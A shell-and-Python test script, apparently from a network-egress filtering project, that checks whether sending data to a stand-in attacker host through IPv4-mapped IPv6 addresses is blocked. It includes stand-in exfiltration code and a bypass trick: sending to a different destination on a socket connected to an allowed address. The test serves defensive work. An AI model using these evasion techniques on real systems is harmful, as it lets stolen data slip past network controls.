#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: reaches an IPv4 host through IPv6 sockets, by its IPv4-mapped address
# stopped-by: connect6, sendmsg4
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

MAPPED = "::ffff:" + EVIL4
with attempt("tcp"):
    sock = tcp(MAPPED)
    sock.connect((MAPPED, 443))
    sock.sendall(loot("tcp"))
with attempt("udp"):
    udp(MAPPED).sendto(loot("udp"), (MAPPED, 9000))
with attempt("udp, connected"):
    sock = udp(MAPPED)
    sock.connect((MAPPED, 9000))
    sock.send(loot("connected"))
with attempt("udp, connected to an allowed IPv6 destination"):
    sock = udp(GOOD6)
    sock.connect((GOOD6, 9000))
    sock.sendto(loot("elsewhere"), (MAPPED, 9000))
good = "::ffff:" + GOOD4
udp(good).sendto(honest("udp"), (good, 9000))
PYTHON
works stolen:tcp stolen:udp stolen:connected stolen:elsewhere
gate
stopped
passes honest:udp
recorded connect6 destination
recorded sendmsg4 destination
